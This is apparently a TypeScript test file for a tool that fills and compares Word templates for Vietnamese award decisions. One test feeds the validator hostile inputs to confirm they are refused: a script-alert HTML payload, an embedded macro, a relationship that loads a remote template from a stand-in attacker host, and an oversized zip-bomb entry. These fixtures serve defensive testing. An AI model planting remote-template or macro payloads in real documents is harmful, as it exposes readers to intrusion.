import assert from 'node:assert/strict'
import { test } from 'node:test'
import { Document, Packer, Paragraph, Table, TableCell, TableRow, TextRun } from 'docx'
import { strToU8, unzipSync, zipSync } from 'fflate'
import { compareTexts, textOfWord } from './compare.ts'
import { checkTemplate, fillTemplate, type TemplateField } from './template.ts'

const fields: TemplateField[] = [
  { tag: 'ten', label: { vi: 'Họ tên', en: 'Name' }, required: true },
  { tag: 'so', label: { vi: 'Số quyết định', en: 'Decision number' } },
  { tag: 'danhSach', label: { vi: 'Danh sách', en: 'List' }, parts: [{ tag: 'nguoi', label: { vi: 'Người', en: 'Person' } }] },
]

async function word(...lines: string[]) {
  const cells = ['{#danhSach}{nguoi}', '{/danhSach}'].map((text) => new TableCell({ children: [new Paragraph(text)] }))
  const rows = new Table({ rows: [new TableRow({ children: cells })] })
  const children = [...lines.map((line) => new Paragraph(line)), ...(lines.includes('no table') ? [] : [rows])]
  return new Uint8Array(await Packer.toBuffer(new Document({ sections: [{ children }] })))
}

const sentences = async (bytes: Uint8Array) => (await checkTemplate(bytes, fields)).problems.map((problem) => problem.vi)

test('a good template is filled, rows and all, and what people type stays text', async () => {
  const template = await word('Tặng {ten}')
  assert.deepEqual(await checkTemplate(template, fields), { tags: ['ten', 'danhSach', 'nguoi'], problems: [] })
  const paper = await fillTemplate(template, { ten: 'K’Brôi <w:p/> {so} & ƀ', danhSach: [{ nguoi: 'Thị Mẫu' }, { nguoi: 'Điểu Thử' }] })
  assert.equal(await textOfWord(paper), 'Tặng K’Brôi <w:p/> {so} & ƀ\nThị Mẫu\nĐiểu Thử')
})

test('a misspelt field is named, with the one that was probably meant', async () => {
  assert.deepEqual(await sentences(await word('Tặng {ten} theo {Số}')), [
    '“{Số}” không phải là ô mà mẫu này có. Có phải anh/chị muốn viết “{so}”?',
  ])
})

test('a missing field and an unclosed one are each one sentence', async () => {
  assert.deepEqual(await sentences(await word('Tặng')), ['Mẫu thiếu ô bắt buộc “{ten}” (Họ tên).'])
  assert.match((await sentences(await word('Tặng {ten')))[0] ?? '', /chưa có dấu đóng/)
  assert.match((await sentences(await word('{ten} {#danhSach}', 'no table')))[0] ?? '', /Phần lặp “danhSach” chưa có chỗ kết thúc/)
})

test('rows that cross, a field of rows set as one line and a field outside its rows are each named', async () => {
  const [one] = await sentences(await word('{ten} {#danhSach}{#ten}{/danhSach}{/ten}', 'no table'))
  assert.match(one ?? '', /Ô “{ten}” chỉ có một dòng: viết {ten}|đóng khi phần lặp mở sau nó chưa đóng/)
  assert.deepEqual(await sentences(await word('{#ten}{/ten}')), ['Ô “{ten}” chỉ có một dòng: viết {ten}, không có dấu #.'])
  assert.match(
    (await sentences(await word('{ten} {danhSach}')))[0] ?? '',
    /Ô “{danhSach}” có nhiều dòng: mở bằng {#danhSach}, đóng bằng {\/danhSach}/,
  )
  assert.match((await sentences(await word('{ten} {nguoi}')))[0] ?? '', /Ô “{nguoi}” chỉ dùng ở giữa một phần lặp/)
})

test('what is no plain Word document is refused before it is read', async () => {
  const good = unzipSync(await word('{ten}'))
  const refused = (bytes: Uint8Array) => checkTemplate(bytes, fields)
  await assert.rejects(refused(strToU8('<html><script>alert(1)</script>')), /không phải tệp Word/)
  await assert.rejects(refused(zipSync({ 'xl/workbook.xml': strToU8('<x/>') })), /không phải tệp Word/)
  await assert.rejects(refused(zipSync({ ...good, 'word/vbaProject.bin': strToU8('x') })), /macro/)
  const outside =
    '<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
  await assert.rejects(refused(zipSync({ ...good, 'word/_rels/settings.xml.rels': strToU8(outside) })), /evil\.example/)
  await assert.rejects(refused(zipSync({ ...good, 'word/media/bomb.bin': new Uint8Array(250_000_000) })), /quá lớn/)
})

test('what the leader changed by hand is shown word by word', () => {
  const { changed, paragraphs } = compareTexts(
    'Điều 1. Tặng Giấy khen cho 05 cá nhân.\nĐiều 2. Thi hành.',
    'Điều 1. Tặng Giấy khen cho 06 cá nhân.\nĐiều 2. Thi hành.',
  )
  assert.equal(changed, 1)
  assert.deepEqual(
    paragraphs[0]?.filter((stretch) => stretch.kind !== 'same'),
    [
      { kind: 'removed', text: '05' },
      { kind: 'added', text: '06' },
    ],
  )
  assert.equal(compareTexts('Hoà  bình'.normalize('NFD'), 'Hoà bình').changed, 0)
})

test('a line broken anew changes no word: inside a title, as a new paragraph, or taken back', async () => {
  const title = (...lines: TextRun[]) =>
    Packer.toBuffer(new Document({ sections: [{ children: [new Paragraph({ children: lines }), new Paragraph('Điều 1.')] }] }))
  const broken = await title(new TextRun('QUYẾT ĐỊNH'), new TextRun({ text: 'Về việc tặng Giấy khen', break: 1 }))
  const straight = await title(new TextRun('QUYẾT ĐỊNH Về việc tặng Giấy khen'))
  const [first, second] = await Promise.all([broken, straight].map((bytes) => textOfWord(new Uint8Array(bytes))))
  assert.equal(first, 'QUYẾT ĐỊNH Về việc tặng Giấy khen\nĐiều 1.')
  assert.equal(compareTexts(first ?? '', second ?? '').changed, 0)
  const two = compareTexts('QUYẾT ĐỊNH Về việc tặng\nĐiều 1.', 'QUYẾT ĐỊNH\nVề việc tặng\nĐiều 1.')
  assert.deepEqual([two.changed, two.paragraphs.length], [0, 3])
  assert.equal(compareTexts('QUYẾT ĐỊNH\nVề việc tặng', 'QUYẾT ĐỊNH Về việc tặng').changed, 0)
  assert.equal(compareTexts('QUYẾT ĐỊNH\nVề việc tặng', 'QUYẾT ĐỊNH Về việc sửa').changed, 1, 'a word changed beside it is still seen')
})

test('a Word file that is another text altogether is compared before anybody has waited for it', () => {
  const words = Array.from({ length: 300 }, (_, at) => `tiếng${at}`)
  const jumbled = (step: number, lines: number) =>
    Array.from({ length: lines }, (_, line) =>
      Array.from({ length: 40 }, (__, at) => words[((line + at) * step) % words.length]).join(' '),
    ).join('\n')
  const began = performance.now()
  const { changed, paragraphs } = compareTexts(jumbled(7, 400), jumbled(11, 400))
  assert.ok(performance.now() - began < 3000, 'the office waits while two texts are compared')
  assert.ok(changed > 0 && paragraphs.length > 0)
})
